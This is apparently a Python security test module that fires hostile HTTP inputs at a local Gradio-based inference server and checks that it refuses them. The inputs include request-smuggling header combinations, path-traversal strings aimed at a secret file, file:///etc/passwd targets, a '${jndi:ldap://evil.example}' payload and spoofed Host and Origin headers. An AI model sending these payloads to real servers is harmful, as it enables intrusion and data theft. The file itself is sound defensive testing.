# ruff: noqa: E501
"""What a second attacker thought of: requests smuggled in others, ranges, cookies, methods, odd addresses, and crowds."""

from __future__ import annotations

import json
import re
import socket
import threading
import urllib.parse
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import httpx
from tests.serving import png
from tests.unit.inference.siege import FIELDS, Attack, Siege, rest

_KEPT = 64  # uploads of the largest size


class Raid(Siege):
    """A siege with more kinds of attack."""

    def kinds(self) -> list[Callable[[], Iterator[tuple[str, Attack]]]]:
        """Kinds of attack."""
        return [
            *super().kinds(),
            self.smuggled,
            self.spelled,
            self.methods,
            self.headers,
            self.values_of_settings,
            self.crowds,
        ]

    def smuggled(self) -> Iterator[tuple[str, Attack]]:
        """One request that some proxy could take for two: it is answered once at most, or refused."""
        host = f"Host: {self.host}\r\n".encode()
        post = b"POST /v1/chat/completions HTTP/1.1\r\n" + host
        hidden = b"GET /smuggled HTTP/1.1\r\n" + host + b"\r\n"
        chunked = b"Transfer-Encoding: chunked\r\n"
        for name, head in {
            "two equal lengths, listed": b"Content-Length: 0, 50\r\n", "lengths apart": b"Content-Length: 0\r\nContent-Length: 50\r\n",
            "a folded length": b"Content-Length: 0\r\n 0\r\n", "a folded coding": b"Content-Length: 0\r\nTransfer-Encoding:\r\n chunked\r\n",
            "length with a tab": b"Content-Length:\t0\r\nTransfer-Encoding: chunked\r\n", "length in hex": b"Content-Length: 0x0\r\n",
            "length with an underscore": b"Content-Length: 1_0\r\n", "length in other digits": "Content-Length: ٠\r\n".encode(),
            "length, blank before the colon": b"Content-Length : 0\r\n", "coding, blank before the colon": b"Transfer-Encoding : chunked\r\n",
            "coding, vertical tab": b"Transfer-Encoding: \x0bchunked\r\n", "coding twice": chunked * 2, "coding in capitals and a length": b"TRANSFER-ENCODING: CHUNKED\r\ncontent-length: 0\r\n",
            "coding listed twice": b"Transfer-Encoding: chunked, chunked\r\n", "coding identity": b"Transfer-Encoding: identity\r\n", "xchunked": b"Transfer-Encoding: xchunked\r\n",
            "a bare return in a header": b"X: a\rContent-Length: 50\r\n", "a bare feed in a header": b"X: a\nContent-Length: 0\nTransfer-Encoding: chunked\r\n",
            "nul in a name": b"Content\0-Length: 0\r\n", "an empty name": b": x\r\n", "no colon": b"Content-Length\r\n", "first line folded": b" Content-Length: 0\r\n",
        }.items():  # fmt: skip
            yield name, lambda h=head: self._refused_once(post + h + b"\r\n" + b"0\r\n\r\n" + hidden)
        for name, body in {
            "size in hex with a sign": b"+5\r\nhello\r\n0\r\n\r\n", "size 0x5": b"0x5\r\nhello\r\n0\r\n\r\n", "size with a blank": b" 5\r\nhello\r\n0\r\n\r\n",
            "no break after the data": b"5\r\nhelloXX0\r\n\r\n", "bare feeds": b"5\nhello\n0\n\n", "a negative size": b"-1\r\nhello\r\n0\r\n\r\n", "a size of 17 digits": b"f" * 17 + b"\r\nx\r\n0\r\n\r\n",
            "an endless extension": b"5;" + b"a" * 1_000_000 + b"\r\nhello\r\n0\r\n\r\n",
        }.items():  # fmt: skip
            yield f"chunks: {name}", lambda b=body: self._refused_once(post + chunked + b"\r\n" + b + hidden)
        for name, sent in {
            "trailers with a host": post + chunked + b"\r\n2\r\n{}\r\n0\r\nHost: evil.example\r\nContent-Length: 50\r\n\r\n",
            "chunks in HTTP 1.0": post.replace(b"1.1", b"1.0") + chunked + b"\r\n2\r\n{}\r\n0\r\n\r\n",
            "a body of GET": b"GET /v1/models HTTP/1.1\r\n" + host + b"Content-Length: 5\r\nConnection: close\r\n\r\nhello",
            "a body of HEAD": b"HEAD /v1/models HTTP/1.1\r\n" + host + b"Content-Length: 5\r\nConnection: close\r\n\r\nhello",
            "expects, then nothing": post + b"Expect: 100-continue\r\nContent-Length: 5\r\n\r\n", "expects twice": post + b"Expect: 100-continue, x\r\nContent-Length: 2\r\n\r\n{}",
            "blank lines first": b"\r\n" * 50 + b"GET /v1/models HTTP/1.1\r\n" + host + b"Connection: close\r\n\r\n", "a tab for a blank": b"GET\t/v1/models\tHTTP/1.1\r\n" + host + b"\r\n",
            "three blanks": b"GET  /v1/models  HTTP/1.1\r\n" + host + b"\r\n", "a long method": b"A" * 60_000 + b" / HTTP/1.1\r\n" + host + b"\r\n", "http/1.1 in small letters": b"GET / http/1.1\r\n" + host + b"\r\n",
            "a letter of two bytes in the target": "GET /é HTTP/1.1\r\n".encode() + host + b"\r\n", "a nul in the target": b"GET /\0 HTTP/1.1\r\n" + host + b"\r\n",
            "websocket to the queue": b"GET /gradio_api/queue/join HTTP/1.1\r\n" + host + b"Connection: keep-alive, Upgrade\r\nUpgrade: WebSocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n\x81\x85\0\0\0\0hello",
            "websocket by POST": post + b"Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 2\r\n\r\n{}", "h2c": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        }.items():  # fmt: skip
            yield name, lambda s=sent: self._once_at_most(s)

    def spelled(self) -> Iterator[tuple[str, Attack]]:
        """Addresses in every spelling, absolute ones, and ones that are no path."""
        path = str(self.secret)
        up, down = "/%2e%2e" * 12, path.replace("/", "%2F")
        for before in ("/assets", "/static", "/svelte", "/gradio_api/file=uploads", "/gradio_api/file=", "/v1", ""):
            for way in (
                up,
                "/.." * 12,
                "/..%2f" * 12,
                "/%252e%252e" * 12,
                "/%c0%ae%c0%ae" * 12,
                "/..;" * 12,
                "/.%00." * 12,
                "/..%5c" * 12,
                "/%uff0e%uff0e" * 12,
                "/．．" * 12,
            ):
                yield (
                    f"{before}{way[:16]}",
                    lambda b=before, w=way: self.send(
                        f"GET {b}{w}{path} HTTP/1.1\r\nHost: {self.host}\r\nConnection: close\r\n\r\n".encode()
                    ),
                )
            yield f"{before}, encoded", lambda b=before: self.raw("GET", f"{b}/{down}")
            for length in (255, 256, 4096, 60_000):
                yield f"{before}, {length} letters", lambda b=before, n=length: self.raw("GET", f"{b}/{'a' * n}")
                yield (
                    f"{before}, {length} folders",
                    lambda b=before, n=length: self.raw("GET", f"{b}{'/a' * (n // 2)}.png"),
                )
        evil = "Host: evil.example\r\n"
        for target in (f"http://{self.host}/v1/models/", f"http://{self.host}", f"http://{self.host}?x", f"http://{self.host}/gradio_api/file={path}", f"http://{self.host}/config", f"HTTPS://{self.host}/"):  # fmt: skip
            yield (
                f"absolute {target}",
                lambda t=target: self._without(
                    b"evil.example", self.send(f"GET {t} HTTP/1.1\r\n{evil}Connection: close\r\n\r\n".encode())
                ),
            )
        for target in (
            "http://localhost@evil.example/v1/models",
            "http://evil.example:80/",
            "http://[::1%25eth0]/",
            "http://[fe80::1%eth0]/",
            "http:///v1/models",
            "http://\xe9vil.example/",
            "http://127.0.0.1.evil.example/",
        ):
            yield f"absolute {target}", lambda t=target: self._refused("GET", t, self.host, "")
        for target in ("ftp://localhost/etc/passwd", f"file://{path}", "file:///etc/passwd", "gopher://x/", "v1/models", "?x", "#", "*", "localhost:443", ";/v1/models", "/v1/models#x", "/v1//models", "//evil.example/v1/models", "/\\evil.example", "/v1/models/", "/v1/models/?x=//evil.example", "/config/", "/gradio_api/info/"):  # fmt: skip
            yield f"target {target}", lambda t=target: self._without(b"location: //", self.raw("GET", t))

    def methods(self) -> Iterator[tuple[str, Attack]]:
        """Methods that echo, tunnel or are nobody's."""
        for method in (
            "HEAD",
            "TRACE",
            "CONNECT",
            "get",
            "Post",
            "TRACK",
            "DEBUG",
            "LOCK",
            "COPY",
            "MOVE",
            "SEARCH",
            "QUERY",
            "X" * 300,
        ):
            for target in (
                "/v1/models",
                "/config",
                f"/gradio_api/file={self.secret}",
                "/gradio_api/queue/data?session_hash=a",
                "localhost:22",
                "evil.example:443",
            ):
                yield (
                    f"{method[:9]} {target[:40]}",
                    lambda m=method, t=target: self._without(b"eccho", self.raw(m, t, extra="X-Said: eccho\r\n")),
                )

    def headers(self) -> Iterator[tuple[str, Attack]]:
        """Ranges, cookies, and names of headers in other cases, for an upload and for the page."""
        name = self._sent(png())
        file = f"/gradio_api/file={urllib.parse.quote(name)}"
        ranges = ["bytes=0-0", "bytes=-5", "bytes=5-", "bytes=9-1", "bytes=x", "bytes=0-0," * 5000 + "1-1", "bytes=" + "0-," * 9000, "bytes=" + "9" * 5000 + "-", "bytes=-" + "9" * 5000, "lines=1-2", "bytes=0-99999999999999999999", "bytes=-0", "bytes"]  # fmt: skip
        for given in ranges:
            for target in (file, "/config", "/v1/models", "/theme.css"):
                yield (
                    f"Range {given[:20]} {target[:20]}",
                    lambda g=given, t=target: self._begins(self._got(t, f"Range: {g}\r\nIf-Range: x\r\n")),
                )
        for extra in (
            "If-None-Match: *", "If-Modified-Since: x", "If-Match: *", "If-Unmodified-Since: Thu, 99 Foo", "If-None-Match: " + "W/\"a\"," * 5000,
            "Cookie: access-token=x; access-token-unsecure=y; session=../../x", "Cookie: " + "a=b;" * 12_000, "Cookie: \x01\xff=\xfe", "Cookie: =; ; =x", "Authorization: Basic " + "=" * 9999, "Authorization: Bearer \xff", "Authorization:",
            "Accept-Encoding: gzip;q=x, br, *;q=0", "Accept: " + "a/b," * 9000, "Content-Type: application/json; charset=utf-7", "X-HTTP-Method-Override: DELETE", "Accept-Language: " + "x-" * 20_000,
            "User-Agent: \x1b[2J${jndi:ldap://evil.example}", "Referer: http://evil.example/", "Via: 1.1 x", "X-Forwarded-For: 127.0.0.1, x", "X-Real-IP: 127.0.0.1", "Connection: host, content-length, x-said", "Upgrade-Insecure-Requests: 1", "Max-Forwards: 0", "TE: trailers, x;q=9", "Sec-Fetch-Site: none",
        ):  # fmt: skip
            for target in (file, "/config"):
                yield (
                    f"{extra[:40]!r} {target[:20]}",
                    lambda e=extra, t=target: self._without(b"set-cookie", self._got(t, f"{e}\r\n")),
                )
        for line in ("hOsT: evil.example", "HOST: evil.example", "host: evil.example\r\nHost: 127.0.0.1", "Host:evil.example", "Host:\t evil.example \t", "Host: 127.0.0.1\r\n evil.example", "Host: 127.0.0.1\t, evil.example", "Host: ①②⑦.0.0.1", "Host: 127。0。0。1", "Host: ⓛocalhost", "Host: [::ffff:7f00:1%25lo]", "Host: [::1%lo]", "Host: [v1.x]", "Host: 127.0.0.1:\x00", "Host: 0177.0.0.1", "Host: 127.0.0.01", "Host: 0.0.0.0", "Host: [::]", "Host: 127.0.0.1:080000"):  # fmt: skip
            yield (
                line[:40],
                lambda g=line: self._must_be_4xx(
                    self.send(f"GET /v1/models HTTP/1.1\r\n{g}\r\nConnection: close\r\n\r\n".encode())
                ),
            )
        for line in (
            "oRiGiN: http://evil.example",
            "ORIGIN: null",
            "Origin: http://localhost\r\nOrigin: http://evil.example",
            "origin:http://evil.example",
            "Origin: http://127.0.0.1 http://evil.example",
            "sEC-fETCH-sITE: Cross-Site",
        ):
            if "localhost\r\n" not in line:  # of two the first counts; no browser sends two
                yield line[:40], lambda g=line: self._refused("POST", "/gradio_api/queue/join", self.host, f"{g}\r\n")

    def values_of_settings(self) -> Iterator[tuple[str, Attack]]:
        """Settings of no sense, in JSON that Python reads and others do not."""
        for value in ("NaN", "Infinity", "-Infinity", "1e999", "-0", "1.5", "true", "null", '"5"', "[5]", "9" * 5000, "0.0000000000000001", "1e-320", '"' + "\\u0000" * 3 + '"'):  # fmt: skip
            for slot in range(2, 6):
                fields = [json.dumps(field) for field in FIELDS["caption"]]
                fields[slot] = value
                body = f'{{"data": [{", ".join(fields)}], "data": [{", ".join(fields)}]}}'.encode()
                yield (
                    f"{value[:20]} in {slot}",
                    lambda b=body: self.raw(
                        "POST", "/gradio_api/call/caption", b, "Content-Type: application/json\r\n"
                    ),
                )
        for name in (
            "caption/../ask",
            "ask%2f",
            "CAPTION",
            "caption ",
            "caption%00",
            "a" * 5000,
            "__class__",
            "load_example",
        ):
            yield f"call {name[:20]}", lambda n=name: self.post(f"/gradio_api/call/{n}", {"data": FIELDS["caption"]})

    def crowds(self) -> Iterator[tuple[str, Attack]]:
        """Two users at once, links in the folder, and many who never fetch what they asked for."""
        yield "uploads pushed out while they are read and captioned", self._race
        yield "a listener's name guessed", lambda: self._stolen()
        yield "many who never listen", lambda: self._never_fetched(300)

    def _race(self) -> bytes:
        """A user's picture is pushed out by another's uploads between its upload, its caption and its download."""
        answers, stop, large = [], threading.Event(), png(2) + b"\0" * 900_000

        def push() -> None:
            while not stop.is_set():
                self._sent(large)

        def use(number: int) -> None:
            for _ in range(6):
                name = self._sent(png(number % 5 + 1))
                picture = {"path": name, "meta": {"_type": "gradio.FileData"}}
                answers.append(self._captioned(picture))
                answers.append(self._got(f"/gradio_api/file={urllib.parse.quote(name)}"))

        pushers = [threading.Thread(target=push) for _ in range(3)]
        for thread in pushers:
            thread.start()
        with ThreadPoolExecutor(4) as pool:
            list(pool.map(use, range(4)))
        stop.set()
        for thread in pushers:
            thread.join()
        for answer in answers:
            self._look_at("race", answer)
            if not (
                b"<article" in answer or b"upload it" in answer or b"no such upload" in answer or b"\x89PNG" in answer
            ):
                self.found.append(f"race: {answer[:300]!r}")
        return b""

    def _captioned(self, picture: dict[str, Any]) -> bytes:
        route = f"{self.address}/gradio_api/call/caption"
        begun = httpx.post(route, json={"data": [picture, *FIELDS["caption"][1:]]}, timeout=60)
        if begun.status_code != 200:
            return f"HTTP/1.1 {begun.status_code}\r\n".encode() + begun.content
        return httpx.get(f"{route}/{begun.json()['event_id']}", timeout=60).content

    def _got(self, path: str, extra: str = "") -> bytes:
        """An answer to somebody who keeps their side open, as browsers do."""
        with socket.create_connection(self.place, timeout=20) as connection:
            head = f"GET {path} HTTP/1.1\r\nHost: {self.host}\r\n{extra}Connection: close\r\n\r\n"
            connection.sendall(head.encode("latin-1", "replace"))
            return rest(connection)

    def _stolen(self) -> bytes:
        body = {"data": FIELDS["caption"], "fn_index": 2, "session_hash": "victim"}
        self.post("/gradio_api/queue/join", body)
        with ThreadPoolExecutor(8) as pool:
            targets = [
                "/gradio_api/queue/data?session_hash=victim",
                "/gradio_api/call/caption/victim",
                "/gradio_api/queue/data?session_hash=victim&session_hash=x",
            ]
            return b"\n".join(pool.map(lambda n: self.raw("GET", targets[n % 3]), range(9)))

    def _never_fetched(self, count: int) -> bytes:
        body: dict[str, Any] = {"data": FIELDS["caption"], "fn_index": 2}
        statuses = set()
        with httpx.Client() as client:
            for number in range(count):
                reply = client.post(
                    f"{self.address}/gradio_api/queue/join", json={**body, "session_hash": f"never{number}"}
                )
                statuses.add(reply.status_code)
        if not statuses <= {200, 400, 429}:
            self.found.append(f"never fetched: {statuses}")
        return b""

    def _sent(self, data: bytes) -> str:
        reply = httpx.post(f"{self.address}/gradio_api/upload", files={"files": ("x.png", data)}, timeout=30)
        return str(reply.json()[0]) if reply.status_code == 200 else "none"

    def _once_at_most(self, data: bytes) -> bytes:
        answer = self.send(data)
        if len(re.findall(rb"^HTTP/1\.1 [2-5]", answer, re.MULTILINE)) > 1:
            self.found.append(f"answered twice: {data[:200]!r} {answer[:500]!r}")
        return answer

    def _refused_once(self, data: bytes) -> bytes:
        answer = self._once_at_most(data)
        if b" 404 " in answer:
            self.found.append(f"the hidden request was answered: {data[:200]!r} {answer[:500]!r}")
        return self._must_be_4xx(answer)

    def _must_be_4xx(self, answer: bytes) -> bytes:
        if answer and not re.match(rb"HTTP/1\.1 4\d\d", answer):
            self.found.append(f"not refused: {answer[:300]!r}")
        return answer

    def _begins(self, answer: bytes) -> bytes:
        if not re.match(rb"HTTP/1\.1 [24]\d\d", answer):
            self.found.append(f"a range: {answer[:300]!r}")
        return answer
